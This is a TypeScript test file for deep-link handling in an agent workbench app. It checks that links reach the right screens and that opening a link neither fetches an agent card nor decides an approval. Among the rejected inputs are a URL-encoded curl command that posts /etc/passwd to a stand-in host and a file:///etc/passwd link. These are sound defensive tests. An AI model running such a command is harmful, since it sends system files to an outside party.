/** Links to places of the application: where they lead, and what they never do. */
import { act, fireEvent, screen, waitFor } from "@testing-library/react";
import { beforeEach, expect, test, vi } from "vitest";
import { type FakeHost, fakeHost } from "../host/fake";
import { linkInPath, linkTo, openedLink, readLink } from "../places/deep-link";
import { navigate } from "../places/route";
import { renderWithHost } from "../testing/render";
import { Shell } from "./Shell";

const CARD = "https://agent.example/.well-known/agent-card.json";

test.each([
  ["a2a-workbench://approvals/7", { to: "place", place: "inbox", id: "7" }],
  ["a2a-workbench://tasks/a%2Fb", { to: "place", place: "tasks", id: "a/b" }],
  ["a2a-workbench://chats/7", { to: "place", place: "chats", id: "7" }],
  ["a2a-workbench://runs/7", { to: "place", place: "runs", id: "7" }],
  ["a2a-workbench://agents/Payments%20clerk", { to: "agent", name: "Payments clerk" }],
  [`a2a-workbench://connect?card=${encodeURIComponent(CARD)}`, { to: "connect", card: CARD }],
])("%s leads to its place", (link, place) => {
  expect(readLink(link)).toEqual(place);
});

test.each([
  "a2a-workbench://approvals/",
  "a2a-workbench://settings/7",
  "a2a-workbench://chats/%E0%A4%A",
  "a2a-workbench://connect",
  "a2a-workbench://connect?card=curl%20-d%20%40%2Fetc%2Fpasswd%20http%3A%2F%2Fa.example",
  "a2a-workbench://connect?card=file%3A%2F%2F%2Fetc%2Fpasswd",
  "https://approvals/7",
])("%s leads nowhere", (link) => {
  expect(readLink(link)).toBeNull();
});

test("what is copied leads back, in the window and in a browser", () => {
  const id = "a/b ?#%";
  const copied = linkTo("chats", id, { host: "desktop" });
  expect(readLink(copied)).toEqual({ to: "place", place: "chats", id });
  const inBrowser = linkInPath(
    new URL(linkTo("agents", "v1.0 clerk", { host: "web" }), window.location.href),
  );
  expect(readLink(inBrowser ?? "")).toEqual({ to: "agent", name: "v1.0 clerk" });
  expect(linkInPath({ pathname: "/", search: "?fake" }), "the page itself").toBeNull();
});

let host: FakeHost;

beforeEach(async () => {
  host = fakeHost();
  navigate("settings");
  renderWithHost(<Shell />, host);
  await screen.findByRole("heading", { name: "Settings" });
});

const openLink = (link: string) => act(() => openedLink.set(link));
const asked = (name: string) => host.calls.filter((call) => call.name === name);

test("a link to connect shows the address and fetches nothing until somebody says so", async () => {
  openLink(`a2a-workbench://connect?card=${encodeURIComponent(CARD)}`);
  const field = await screen.findByRole("textbox", { name: "Address or card" });
  expect(field).toHaveProperty("value", CARD);
  expect(screen.getByRole("note").textContent).toContain("A link brought this address of agent.example.");
  expect(asked("discovery.start")).toEqual([]);
  fireEvent.click(screen.getByRole("button", { name: "Find agent" }));
  await waitFor(() => expect(asked("discovery.start")).toHaveLength(1));
});

test("a link to an approval opens it and decides nothing", async () => {
  openLink("a2a-workbench://approvals/request-pay");
  await screen.findByRole("article", { name: "Pay 12,000 yen to Sato Stationery" });
  expect(asked("approvals.decide")).toEqual([]);
});

test("a link to an agent finds it by its name, and says where there is none", async () => {
  openLink("a2a-workbench://agents/payments%20CLERK");
  await waitFor(() => expect(window.location.hash).toBe("#/agents/payments"));
  openLink("a2a-workbench://agents/nobody");
  await waitFor(() => expect(window.location.hash).toBe("#/agents"));
});

test("a link that leads nowhere changes nothing", () => {
  openLink("a2a-workbench://settings/now");
  expect(window.location.hash).toBe("#/settings");
});

test("the link to an open request is copied", async () => {
  const writeText = vi.fn(async () => {});
  vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
  openLink("a2a-workbench://approvals/request-pay");
  fireEvent.click(await screen.findByRole("button", { name: "Copy link" }));
  await waitFor(() => expect(writeText).toHaveBeenCalledWith("a2a-workbench://approvals/request-pay"));
  vi.unstubAllGlobals();
});
